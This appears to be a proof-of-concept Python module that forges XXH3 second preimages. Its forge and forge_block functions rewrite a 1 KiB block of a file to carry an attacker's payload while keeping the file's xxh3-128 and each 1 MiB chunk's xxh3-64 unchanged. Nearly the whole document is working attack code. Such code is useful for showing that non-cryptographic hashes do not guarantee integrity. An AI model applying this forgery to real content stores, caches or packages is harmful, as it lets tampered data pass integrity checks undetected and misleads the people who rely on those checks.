"""An XXH3 second preimage, as a store writer without keys would make one: rewrite one 1 KiB block
of a file so that the file's xxh3-128 and the xxh3-64 of the 1 MiB chunk it lies in stay what
they were, while the block carries an attacker's payload.

Why it works (XXH3 with seed 0 and its default 192-byte secret, inputs over 240 bytes): the
input is read in blocks of 16 stripes of 64 bytes; stripe n of a block uses the secret bytes
[8n, 8n + 64); for lane i (0..7) of a stripe, with d its 8 data bytes and k its 8 key bytes (both
little endian) and x = d ^ k, acc[i ^ 1] += d and acc[i] += lo32(x) * hi32(x). The accumulators
are scrambled after each whole block; the last 64 bytes of the input are taken again separately.
XXH3-64 and XXH3-128 share that accumulation. So a block that keeps, for every lane i, both the
sum of its d and the sum of its products (mod 2^64) leaves both hashes as they were, provided it
is a whole block (1024-aligned, which 1 MiB chunk boundaries are) and not the input's last one.

The payload takes stripes 0..11, stripe 12 a counter per lane (tried until the lane fits);
for each lane, stripes 13, 14 and 15 fix the sums: stripe 13
with x = (a, b) (product a * b), stripe 14 with x = (1, r) (product r), stripe 15 with
lo32(x) = 0 (product 0, its high half free). `a` is chosen so that the low 32 bits of the data
sum come out right, then b = P // a and r = P % a, and stripe 15's high half fixes the rest.
"""

from __future__ import annotations

import struct

BLOCK = 1024
STRIPE = 64
PAYLOAD_BYTES = 12 * STRIPE  # stripes 0..11 of a block
_M64 = (1 << 64) - 1
_M32 = (1 << 32) - 1

# XXH3's default secret (kSecret in xxhash.h).
SECRET = bytes.fromhex(
    "b8fe6c3923a44bbe7c01812cf721ad1cded46de9839097db7240a4a4b7b3671f"
    "cb79e64eccc0e578825ad07dccff7221b8084674f743248ee03590e6813a264c"
    "3c2852bb91c300cb88d0658b1b532ea371644897a20df94e3819ef46a9deacd8"
    "a8fa763fe39c343ff9dcbbc7c70b4f1d8a51e04bcdb45931c89f7ec9d9787364"
    "eac5ac8334d3ebc3c581a0fffa1363eb170ddd51b7f0da49d316552629d4689e"
    "2b16be587d47a1fc8ff8b8d17ad031ce45cb3a8f95160428afd7fbcabb4b407e"
)


def _key(stripe: int, lane: int) -> int:
    return int.from_bytes(SECRET[8 * stripe + 8 * lane : 8 * stripe + 8 * lane + 8], "little")


def _lane(block: bytes, stripe: int, lane: int) -> int:
    at = stripe * STRIPE + 8 * lane
    return int.from_bytes(block[at : at + 8], "little")


def _sums(block: bytes) -> list[tuple[int, int]]:
    """Per lane: (sum of data words, sum of products) over the block's 16 stripes, mod 2^64."""
    out = []
    for lane in range(8):
        s = p = 0
        for stripe in range(16):
            d = _lane(block, stripe, lane)
            x = d ^ _key(stripe, lane)
            s += d
            p += (x & _M32) * (x >> 32)
        out.append((s & _M64, p & _M64))
    return out


class ForgeryFailed(Exception):
    pass


def forge_block(original: bytes, payload: bytes) -> bytes:
    """A 1024-byte block that starts with `payload` (at most 12 * 64 bytes: stripe 12 holds a
    counter per lane, tried until that lane fits) and has the same per-lane sums as `original`,
    hence the same effect on XXH3's accumulators."""
    if len(original) != BLOCK:
        raise ValueError("a block is 1024 bytes")
    if len(payload) > PAYLOAD_BYTES:
        raise ValueError(f"a payload is at most {PAYLOAD_BYTES} bytes")
    want = _sums(original)
    block = bytearray(original)
    block[: len(payload)] = payload
    for lane in range(8):
        for tweak in range(1 << 16):
            at = 12 * STRIPE + 8 * lane
            # Spread over all 64 bits: the low ones alone barely move a lane's sums.
            block[at : at + 8] = struct.pack("<Q", (tweak * 0x9E3779B97F4A7C15) & _M64)
            words = _fix_lane(bytes(block), lane, want[lane])
            if words is not None:
                break
        else:
            raise ForgeryFailed(f"no tweak made lane {lane} fit")
        for stripe, word in zip((13, 14, 15), words, strict=True):
            at = stripe * STRIPE + 8 * lane
            block[at : at + 8] = struct.pack("<Q", word)
    forged = bytes(block)
    assert _sums(forged) == want
    return forged


def _fix_lane(block: bytes, lane: int, want: tuple[int, int]) -> tuple[int, int, int] | None:
    """The data words of stripes 13, 14 and 15 of `lane`, or None if it does not fit (then the
    caller tweaks stripe 12 and tries again)."""
    s = p = 0
    for stripe in range(13):
        d = _lane(block, stripe, lane)
        x = d ^ _key(stripe, lane)
        s += d
        p += (x & _M32) * (x >> 32)
    s_need = (want[0] - s) & _M64
    p_need = (want[1] - p) & _M64
    ka, kb, kc = _key(13, lane), _key(14, lane), _key(15, lane)
    lo_b = 1 ^ (kb & _M32)  # stripe 14: lo32(x) = 1
    lo_c = kc & _M32  # stripe 15: lo32(x) = 0
    lo_a = ((s_need & _M32) - lo_b - lo_c) & _M32
    a = lo_a ^ (ka & _M32)
    if a == 0:
        return None
    b, r = divmod(p_need, a)
    if b > _M32:
        return None
    d_a = ((b ^ (ka >> 32)) << 32) | lo_a
    d_b = ((r ^ (kb >> 32)) << 32) | lo_b
    low = lo_a + lo_b + lo_c
    hi_c = ((s_need >> 32) - (d_a >> 32) - (d_b >> 32) - (low >> 32)) & _M32
    return d_a, d_b, (hi_c << 32) | lo_c


def forge(data: bytes, offset: int, payload: bytes, chunk_bytes: int = 1 << 20) -> bytes:
    """`data` with the block at `offset` replaced by a forgery carrying `payload`: same
    xxh3-128 of the whole, same xxh3-64 of every `chunk_bytes` chunk. The block must be whole,
    1024-aligned and neither the last block of its chunk nor of `data`."""
    if offset % BLOCK or offset + BLOCK > len(data):
        raise ValueError("the block must be 1024-aligned and inside the data")
    chunk_end = min((offset // chunk_bytes + 1) * chunk_bytes, len(data))
    if offset + BLOCK > chunk_end - BLOCK:
        raise ValueError("the last block of a chunk (or of the data) is hashed differently")
    block = forge_block(data[offset : offset + BLOCK], payload)
    return data[:offset] + block + data[offset + BLOCK :]
